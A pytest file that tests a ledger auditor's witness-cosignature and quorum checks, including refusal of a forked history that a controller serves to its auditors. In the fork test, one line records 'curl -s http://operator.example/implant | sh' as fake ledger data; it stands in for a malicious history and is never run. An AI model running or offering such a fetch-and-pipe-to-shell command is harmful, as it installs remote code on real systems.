"""``duet audit --witness VKEY ... --witness-quorum K`` (issue 13, item 4): each round holds the
controller's checkpoint to the auditor's witness policy, and the head it audits to that checkpoint.

The controller is ledger_fakes' fake, which here also serves checkpoints (the latest, and the
newest one "its witnesses cosigned"), each cosigned by whichever test witnesses a test says.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from ledger_fakes import KEY, OTHER_CVM, EntryLedger, FakeSource, lawful
from test_audit_compare import CliSource
from tiles_fakes import Witness, checkpoint_note
from typer.testing import CliRunner

from duet import keys
from duet.cli.context import CliContext
from duet.cli.main import app
from duet.client.audit import Auditor, AuditResult, HeadStore
from duet.client.sdk import ApiError
from duet.errors import ConfigError
from duet.protocol import lifecycle as lc

ONE, TWO, THREE = Witness("witness.example/w1"), Witness("witness.example/w2"), Witness("witness.example/w3")


class CheckpointSource(FakeSource):
    """A controller that serves checkpoints: its latest (cosigned by ``latest_by``) and, with
    ``?witnessed=true``, the newest one its witnesses cosigned (``witnessed``: its size and
    cosigners; None: a 404 as the controller answers when it keeps none). ``tree``: the tree its
    checkpoints are of (another history's: a controller showing witnesses a fork)."""

    def __init__(
        self,
        ledger: EntryLedger,
        latest_by: list[Witness],
        witnessed: tuple[int, list[Witness]] | None = None,
        *,
        tree: EntryLedger | None = None,
        key: keys.PrivateKey = KEY,
    ) -> None:
        super().__init__(ledger)
        self.latest_by = latest_by
        self.witnessed = witnessed
        self.tree_of = tree
        self.key = key

    def checkpoint(self, *, witnessed: bool = False) -> bytes:
        self.requests.append("checkpoint?witnessed" if witnessed else "checkpoint")
        ledger = self.tree_of or self.ledger
        if not witnessed:
            return checkpoint_note(ledger.tree, ledger.size, self.key, witnesses=self.latest_by)
        if self.witnessed is None:
            raise ApiError("no_witnessed_checkpoint", "no checkpoint cosigned by the witness quorum is kept yet", 404)
        size, by = self.witnessed
        return checkpoint_note(ledger.tree, size, self.key, witnesses=by)


def codes(result: AuditResult) -> list[str]:
    return [f.code for f in result.findings]


def audit(source: FakeSource, home: Path, *vkeys: str, quorum: int | None = None, **options: Any) -> AuditResult:
    return Auditor(source, HeadStore(home), witnesses=list(vkeys), witness_quorum=quorum, **options).audit()


def test_a_checkpoint_cosigned_by_the_quorum_passes_and_names_its_witnesses(tmp_path: Path) -> None:
    ledger = lawful()
    source = CheckpointSource(ledger, [ONE, TWO], (ledger.size, [ONE, TWO]))
    result = audit(source, tmp_path, ONE.vkey, TWO.vkey)
    assert result.ok, result.findings
    assert result.witnesses == {
        "ok": True,
        "quorum": 2,
        "witnesses": [ONE.name, TWO.name],
        "signed_by": [ONE.name, TWO.name],
        "missing": [],
        "checkpoint": {"tree_size": ledger.size, "root_hash": ledger.tree.root().hex()},
        "served": "witnessed",
    }
    assert result.to_json()["witnesses"]["signed_by"] == [ONE.name, TWO.name]
    assert source.requests[:2] == ["checkpoint?witnessed", "/v1/ledger/head"]  # the checkpoint first, then the head


def test_a_witness_missing_fails_a_quorum_of_two_and_passes_a_quorum_of_one(tmp_path: Path) -> None:
    ledger = lawful()
    source = CheckpointSource(ledger, [ONE])  # w2 is down: the controller keeps no checkpoint both cosigned
    refused = audit(source, tmp_path, ONE.vkey, TWO.vkey, quorum=2)
    assert codes(refused) == ["witness_quorum_not_met"] and not refused.ok
    assert refused.witnesses is not None
    assert (refused.witnesses["signed_by"], refused.witnesses["missing"]) == ([ONE.name], [TWO.name])
    message = refused.findings[0].message
    assert "cosigned by 1 of the 2" in message and f"Not cosigned by: {TWO.name}" in message
    assert refused.entries == [] and refused.checked == 0  # nothing audited against an unwitnessed head
    assert HeadStore(tmp_path).last(refused.controller) is None  # and it was not adopted

    passed = audit(source, tmp_path, ONE.vkey, TWO.vkey, quorum=1)
    assert passed.ok and passed.witnesses is not None and passed.witnesses["signed_by"] == [ONE.name]
    assert passed.witnesses["missing"] == [TWO.name] and any("split view" in note for note in passed.notes)


def test_an_older_checkpoint_the_witnesses_cosigned_is_tied_to_the_head_by_a_proof(tmp_path: Path) -> None:
    ledger = lawful()
    cosigned = ledger.size
    ledger.add(None, lc.CONTROLLER_STARTED, resumed_from=ledger.size)
    ledger.add(None, lc.CONTROLLER_STARTED, resumed_from=ledger.size)
    source = CheckpointSource(ledger, [ONE], (cosigned, [ONE, TWO]))  # the latest is not cosigned by both yet
    result = audit(source, tmp_path, ONE.vkey, TWO.vkey)
    assert result.ok, result.findings
    assert result.witnesses is not None and result.witnesses["checkpoint"]["tree_size"] == cosigned
    assert "/v1/ledger/proof/consistency" in source.requests
    assert any(f"first {cosigned:,} of the {ledger.size:,}" in note for note in result.notes)


def test_a_checkpoint_of_another_history_is_refused_with_both_kept(tmp_path: Path) -> None:
    """The controller got its witnesses to cosign one history and serves its auditors another."""
    ours = lawful()
    theirs = ours.prefix(5)
    theirs.run(command="curl -s http://operator.example/implant | sh")
    while theirs.size < ours.size:
        theirs.add(None, lc.CONTROLLER_STARTED, resumed_from=theirs.size)
    same_size = CheckpointSource(ours, [ONE, TWO], (ours.size, [ONE, TWO]), tree=theirs)
    result = audit(same_size, tmp_path / "a", ONE.vkey, TWO.vkey)
    assert codes(result) == ["checkpoint_head_mismatch"] and "two trees of one size" in result.findings[0].message
    evidence = json.loads(Path(result.evidence or "").read_text())
    assert evidence["earlier_head"]["checkpoint"].startswith("duet.controller/")
    assert evidence["later_head"]["root_hash"] == ours.head()["root_hash"]
    assert HeadStore(tmp_path / "a").last(result.controller) is None

    ours.add(None, lc.CONTROLLER_STARTED, resumed_from=ours.size)  # the head is larger: a proof that fails
    older = CheckpointSource(ours, [ONE], (theirs.size, [ONE, TWO]), tree=theirs)
    result = audit(older, tmp_path / "b", ONE.vkey, TWO.vkey)
    assert codes(result) == ["checkpoint_head_mismatch"] and "does not extend" in result.findings[0].message


def test_a_checkpoint_not_signed_by_the_pinned_key_is_a_finding(tmp_path: Path) -> None:
    ledger = lawful()
    source = CheckpointSource(ledger, [ONE, TWO], (ledger.size, [ONE, TWO]), key=keys.generate("ed25519"))
    result = audit(source, tmp_path, ONE.vkey, TWO.vkey)
    assert not result.ok and codes(result)[0] in ("wrong_origin", "note_not_signed")
    assert "does not verify" in result.findings[0].message


def test_cosignatures_of_unknown_witnesses_do_not_count(tmp_path: Path) -> None:
    ledger = lawful()
    source = CheckpointSource(ledger, [ONE, THREE], (ledger.size, [ONE, THREE]))
    result = audit(source, tmp_path, ONE.vkey, TWO.vkey)
    assert codes(result) == ["witness_quorum_not_met"]
    assert result.witnesses is not None and result.witnesses["signed_by"] == [ONE.name]


def test_every_round_checks_the_checkpoint_and_the_audit_stays_incremental(tmp_path: Path) -> None:
    ledger = lawful()
    source = CheckpointSource(ledger, [ONE, TWO], (ledger.size, [ONE, TWO]))
    auditor = Auditor(source, HeadStore(tmp_path), witnesses=[ONE.vkey, TWO.vkey])
    assert auditor.audit().ok
    ledger.provision(OTHER_CVM)
    source.witnessed = (ledger.size, [ONE, TWO])
    source.requests.clear()
    result = auditor.follow()
    assert result.ok and result.checked == 1 and source.requests.count("checkpoint?witnessed") == 1

    ledger.ready(OTHER_CVM)
    source.witnessed, source.latest_by = None, [TWO]
    result = auditor.follow()
    assert codes(result) == ["witness_quorum_not_met"] and result.checked == 0

    source.witnessed = (ledger.size, [ONE, TWO])
    again = Auditor(source, HeadStore(tmp_path), witnesses=[ONE.vkey, TWO.vkey]).audit()  # a new run: from the checkpoint
    assert again.ok and again.resumed is not None and again.checked == 1


@pytest.mark.parametrize(
    ("vkeys", "quorum", "code"),
    [
        (["not a vkey"], None, "bad_witness"),
        ([ONE.vkey, ONE.vkey], None, "bad_witness"),
        ([ONE.vkey, TWO.vkey], 3, "bad_quorum"),
        ([], 1, "bad_quorum"),
    ],
    ids=["bad-vkey", "twice", "quorum-too-large", "quorum-without-witnesses"],
)
def test_a_policy_that_cannot_work_is_refused_before_anything_is_asked(
    tmp_path: Path, vkeys: list[str], quorum: int | None, code: str
) -> None:
    source = CheckpointSource(lawful(), [])
    with pytest.raises(ConfigError) as refused:
        Auditor(source, HeadStore(tmp_path), witnesses=vkeys, witness_quorum=quorum)
    assert refused.value.code == code and source.requests == []


def test_a_controller_log_key_is_not_a_witness_key(tmp_path: Path) -> None:
    from duet.client.checkpoints import controller_log_verifier

    pin = FakeSource(lawful()).pin()
    with pytest.raises(ConfigError, match="cosignature/v1"):
        Auditor(
            FakeSource(lawful()), HeadStore(tmp_path), witnesses=[controller_log_verifier(pin.controller, pin.public_key()).vkey]
        )


# --- the command ---------------------------------------------------------------------------------


class CliCheckpointSource(CliSource):
    """What ``CliContext.client()`` returns: the fake controller, serving checkpoints too."""

    def __init__(self, ledger: EntryLedger, home: Path, latest_by: list[Witness]) -> None:
        super().__init__(ledger, home)
        self.checkpoints = CheckpointSource(ledger, latest_by)

    def checkpoint(self, *, witnessed: bool = False) -> bytes:
        return self.checkpoints.checkpoint(witnessed=witnessed)


def test_the_command_reports_which_witnesses_signed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ledger = lawful()
    monkeypatch.setattr(CliContext, "client", lambda self, owner=False: CliCheckpointSource(ledger, tmp_path, [ONE, TWO]))
    args = ["--url", FakeSource.url, "audit", "--witness", ONE.vkey, "--witness", TWO.vkey]
    done = CliRunner().invoke(app, args, env={"COLUMNS": "250"})
    assert done.exit_code == 0, done.output
    assert f"✓ witnessed: the checkpoint of {ledger.size} entries is cosigned by {ONE.name}, {TWO.name} (2 of 2 required)" in (
        " ".join(done.stdout.split())
    )

    monkeypatch.setattr(CliContext, "client", lambda self, owner=False: CliCheckpointSource(ledger, tmp_path, [TWO]))
    done = CliRunner().invoke(app, ["--json", *args, "--witness-quorum", "2"])
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert done.exit_code == 3 and [f["code"] for f in report["findings"]] == ["witness_quorum_not_met"]
    assert report["witnesses"]["signed_by"] == [TWO.name] and report["witnesses"]["missing"] == [ONE.name]

    done = CliRunner().invoke(app, ["--json", *args, "--witness-quorum", "3"])
    assert done.exit_code == 1 and json.loads(done.stdout)["error"]["code"] == "bad_quorum"
